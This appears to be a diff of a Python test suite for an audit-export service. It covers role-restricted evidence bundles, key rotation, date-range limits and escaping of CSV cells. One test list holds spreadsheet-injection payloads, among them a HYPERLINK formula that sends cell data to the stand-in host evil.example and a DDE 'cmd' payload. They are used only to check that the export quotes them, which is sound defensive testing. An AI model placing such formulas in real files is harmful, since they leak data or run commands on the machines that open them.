@@ -6,7 +6,7 @@ import copy
 import csv
 import io
 from collections.abc import Iterator
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, datetime, timedelta, timezone
 from pathlib import Path
 from typing import Any
 
@@ -26,7 +26,7 @@ from service.audit.export import (
     stream_decisions,
 )
 from service.audit.log import take_checkpoint
-from service.audit.signing import generate_signing_key, load_signing_key, public_pem
+from service.audit.signing import generate_signing_key, key_id, load_signing_key, public_pem
 from service.auth.attributes import PERSONAL_PATHS
 from service.auth.policy import MaskingPolicy, load_policy
 from service.cli import app as cli
@@ -219,20 +219,60 @@ def test_the_command_line_verifies_a_bundle_offline_and_refuses_a_tampered_one(
     assert "content hash" in refused.output
 
 
-def test_admin_gets_the_email_withheld_and_legal_gets_it_matching_its_commitment(
+def test_legal_gets_the_email_matching_its_commitment(
     engine: Engine, settings: ServiceSettings, policy: MaskingPolicy, history: str
 ) -> None:
-    admin = build_bundle(engine, settings, history, "admin", policy)
     legal = build_bundle(engine, settings, history, "legal", policy)
-    assert admin["personal"]["customer.email"] == {"withheld": True}
-    assert EMAIL not in orjson.dumps(admin).decode()
     disclosed = legal["personal"]["customer.email"]
     assert disclosed["value"] == EMAIL
     committed = legal["decision"]["personal"]["customer.email"]
     assert commitment(disclosed["salt"], disclosed["value"]) == committed
-    for bundle in (admin, legal):
-        assert verify_bundle(bundle, public_key(settings)) == []
-    assert "customer.email: withheld" in check_bundle(admin, public_key(settings)).undisclosed
+    assert verify_bundle(legal, public_key(settings)) == []
+
+
+@pytest.mark.parametrize("role", ["admin", "reviewer", "senior_reviewer", "logistics", "service"])
+def test_a_role_the_policy_withholds_anything_from_gets_no_bundle_and_nothing_is_written(
+    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy, history: str, role: str
+) -> None:
+    # The committed fields hold, whole, features computed from personal data
+    # (the local hour gives back the shipping longitude) that the masking withholds.
+    sequence_all(engine)
+    before = entries_about(engine, history)
+    with pytest.raises(InvalidExport) as refused:
+        build_bundle(engine, settings, history, role, policy)
+    assert refused.value.field == "role"
+    assert f"the {role} role may not export a signed bundle" in refused.value.message
+    assert "a bundle is exported by legal" in refused.value.message
+    assert entries_about(engine, history) == before
+    assert checkpoints(engine) == []
+
+
+def test_an_order_id_with_a_control_character_is_refused_before_anything_is_written(
+    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy
+) -> None:
+    decided(engine, "fresh")
+    for order_id in ("\x00", "fresh\x00", "fr\nesh"):
+        with pytest.raises(InvalidExport) as refused:
+            build_bundle(engine, settings, order_id, "legal", policy)
+        assert refused.value.field == "order_id"
+    assert entries_about(engine, "fresh")[0].seq is None, "not even sequenced"
+
+
+def test_a_stored_checkpoint_signed_by_another_key_is_not_used(
+    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy, history: str, tmp_path: Path
+) -> None:
+    old, _ = take_checkpoint(engine, settings)
+    rotated_key = tmp_path / "rotated.pem"
+    generate_signing_key(rotated_key)
+    rotated = ServiceSettings(data_dir=settings.data_dir, audit_signing_key=str(rotated_key))
+    bundle = build_bundle(engine, rotated, history, "legal", policy)
+    new_key = public_key(rotated)
+    assert bundle["checkpoint"]["key_id"] == key_id(new_key) != old.key_id
+    assert bundle["checkpoint"]["size"] == old.size, "it covers what the old one did"
+    assert verify_bundle(bundle, new_key) == []
+    assert sorted(row.key_id for row in checkpoints(engine)) == sorted(
+        [old.key_id, key_id(new_key)]
+    )
 
 
 def test_after_an_erasure_the_bundle_shows_it_still_verifies_and_so_does_the_log(
@@ -356,6 +396,75 @@ def test_a_bad_range_is_refused_naming_the_field(
     assert refused.value.field == field
 
 
+PLUS_FIVE, MINUS_FIVE = timezone(timedelta(hours=5)), timezone(timedelta(hours=-5))
+OUT_OF_RANGE = [
+    (datetime(1, 1, 1, tzinfo=PLUS_FIVE), datetime(1, 1, 2, tzinfo=PLUS_FIVE), "start"),
+    (
+        datetime(9999, 12, 31, 19, tzinfo=MINUS_FIVE),
+        datetime(9999, 12, 31, 23, tzinfo=MINUS_FIVE),
+        "start",
+    ),
+    (datetime(2100, 12, 31, tzinfo=UTC), datetime(9999, 12, 31, 23, tzinfo=MINUS_FIVE), "end"),
+    (datetime(1999, 12, 31, tzinfo=UTC), datetime(2000, 1, 2, tzinfo=UTC), "start"),
+    (datetime(2100, 12, 31, tzinfo=UTC), datetime(2101, 1, 1, 0, 0, 1, tzinfo=UTC), "end"),
+]
+
+
+@pytest.mark.parametrize(("start", "end", "field"), OUT_OF_RANGE)
+def test_a_range_outside_the_years_2000_to_2100_is_refused_and_not_logged(
+    engine: Engine, policy: MaskingPolicy, start: datetime, end: datetime, field: str
+) -> None:
+    with pytest.raises(InvalidExport) as refused:
+        export_decisions(engine, start, end, "legal", policy, "csv", "user:legal")
+    assert refused.value.field == field
+    assert "2000 to 2100" in refused.value.message
+    assert entries_about(engine, "decisions", [EXPORTED]) == []
+
+
+def test_a_range_in_another_zone_is_exported_and_logged_in_utc(
+    engine: Engine, policy: MaskingPolicy, history: str
+) -> None:
+    start, end = (moment.astimezone(PLUS_FIVE) for moment in RANGE)
+    rows = b"".join(export_decisions(engine, start, end, "legal", policy, "ndjson", "u"))
+    assert rows.count(b"\n") == 3
+    [logged] = entries_about(engine, "decisions", [EXPORTED])
+    assert logged.body["start"] == RANGE[0].isoformat(timespec="microseconds")
+
+
+def formula_order(order_id: str, text: str) -> dict[str, Any]:
+    payload = order_payload(order_id)
+    payload["device"] = {"fingerprint": "fp-1", "user_agent": text}
+    payload["shipping_address"]["city"] = text
+    return payload
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(
+    engine: Engine, policy: MaskingPolicy
+) -> None:
+    for n, text in enumerate([*FORMULAS, "Mozilla/5.0 = fine"]):
+        new = sample_decision(
+            f"f-{n}",
+            decided_at=DECIDED + timedelta(minutes=n),
+            order_payload=formula_order(f"f-{n}", text),
+        )
+        save_decision(engine, new, open_case=False, personal=PERSONAL_PATHS)
+    rows = csv_rows(engine, policy, "legal")
+    assert [row["device.user_agent"] for row in rows] == [
+        *(f"'{text}" for text in FORMULAS),
+        "Mozilla/5.0 = fine",
+    ]
+    assert [row["shipping_address.city"] for row in rows][:4] == [f"'{t}" for t in FORMULAS]
+    assert [row["amount"] for row in rows] == ["129.99"] * 5, "numbers are left as they are"
+
+
 def test_a_range_export_is_logged_with_who_asked(
     engine: Engine, policy: MaskingPolicy, history: str
 ) -> None:
@@ -385,6 +494,19 @@ def test_the_export_command_streams_to_a_file(
         cli, [*args[:3], "2024-03-01", *args[4:], "--role", "admin", "--out", str(out)]
     )
     assert naive.exit_code == 2 and "time zone" in naive.output
+
+
+@pytest.mark.parametrize(("start", "end", "field"), OUT_OF_RANGE[:3])
+def test_the_export_command_refuses_a_range_outside_the_years_2000_to_2100(
+    engine: Engine, tmp_path: Path, start: datetime, end: datetime, field: str
+) -> None:
+    out = tmp_path / "export.csv"
+    args = ["audit", "export", "--start", start.isoformat(), "--end", end.isoformat()]
+    refused = runner.invoke(cli, [*args, "--role", "legal", "--out", str(out)])
+    assert refused.exit_code == 2, refused.output
+    assert f"--{field}" in refused.output and "2000 to 2100" in refused.output
+    assert not out.exists()
+    assert entries_about(engine, "decisions", [EXPORTED]) == []
 
 
 # The routes, through the app.
@@ -434,6 +556,11 @@ def test_the_export_route_streams_masked_csv_and_names_a_bad_field(
     unknown = client.get("/legal/export", params={"start": start, "end": end, "format": "xls"})
     assert unknown.status_code == 422
     assert unknown.json()["detail"][0]["field"] == "format"
+    for first, last, field in OUT_OF_RANGE:
+        params = {"start": first.isoformat(), "end": last.isoformat()}
+        outside = client.get("/legal/export", params=params)
+        assert outside.status_code == 422, (params, outside.text)
+        assert outside.json()["detail"][0]["field"] == field
 
 
 def test_only_legal_and_admin_may_export(site: tuple[TestClient, Any]) -> None:
@@ -461,3 +588,33 @@ def test_legal_downloads_the_evidence_pdf_and_logistics_may_not(
     client.cookies.clear()
     sign_in(client, "logistics")
     assert client.get("/legal/decisions/web-1/evidence.pdf").status_code == 403
+
+
+def test_admin_gets_no_bundle_and_a_pdf_without_one_that_says_legal_exports_it(
+    site: tuple[TestClient, Any],
+) -> None:
+    from tests.service.audit.test_pdf import pages_text
+
+    client, settings = site
+    engine = make_engine(settings.db_url)
+    client.cookies.clear()
+    sign_in(client, "admin")
+    try:
+        refused = client.get("/legal/decisions/web-1/bundle.json")
+        assert refused.status_code == 403, refused.text
+        assert "a bundle is exported by legal" in refused.json()["detail"]
+        sequence_all(engine)
+        before = entries_about(engine, "web-1", [EXPORTED])
+        answer = client.get("/legal/decisions/web-1/evidence.pdf")
+        assert answer.status_code == 200, answer.text
+        text = pages_text(answer.content)
+        assert "The signed evidence bundle is exported by legal" in text
+        assert "Merkle root" not in text and "bundle signature" not in text
+        assert EMAIL not in text and "j***@example.com" in text
+        sequence_all(engine)
+        logged = entries_about(engine, "web-1", [EXPORTED])[len(before) :]
+        assert [(e.actor, e.body) for e in logged] == [
+            ("user:admin", {"export": "pdf", "role": "admin", "bundle": False})
+        ]
+    finally:
+        engine.dispose()
